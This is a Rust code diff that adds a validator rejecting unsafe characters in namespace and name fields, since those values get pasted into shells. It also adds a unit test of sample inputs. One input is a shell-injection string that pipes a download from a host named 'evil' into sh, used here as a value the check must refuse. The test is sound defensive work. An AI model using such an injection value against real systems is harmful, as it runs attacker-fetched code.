@@ -77,6 +77,17 @@ fn is_ssh_command(text: &str) -> bool {
     text.starts_with("ssh ") && text.chars().all(ordinary)
 }
 
+impl Answer {
+    /// Whether the names are names: people copy them into their shells too.
+    pub(super) fn is_sound(&self) -> bool {
+        let is_name = |text: &str| {
+            let ordinary = |letter: char| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '-' || letter == '.';
+            text.starts_with(|letter: char| letter.is_ascii_alphanumeric()) && text.chars().all(ordinary)
+        };
+        is_name(&self.namespace) && is_name(&self.name)
+    }
+}
+
 impl From<Answer> for Report {
     fn from(answer: Answer) -> Self {
         let (command, known_hosts) = answer.connection.map(|found| (found.command, found.known_hosts)).unzip();
@@ -143,6 +154,17 @@ mod tests {
         let report = Report::from(answer);
         assert!(report.open && report.is_decided());
         assert_eq!(report.command.as_deref(), Some("ssh ci.s@h"));
+    }
+
+    #[test]
+    fn a_name_that_is_none_is_not_believed() {
+        for (name, sound) in [("widget-unit-0a1b", true), ("x; curl evil | sh", false), ("-x", false), ("", false), ("a\nb", false)] {
+            let answer: Answer = serde_json::from_value(json!({
+                "namespace": "ci", "name": name, "open": true, "ended": false, "stalled": false, "message": null, "expiresAt": null, "connection": null,
+            }))
+            .expect("an answer");
+            assert_eq!(answer.is_sound(), sound, "{name}");
+        }
     }
 
     #[test]
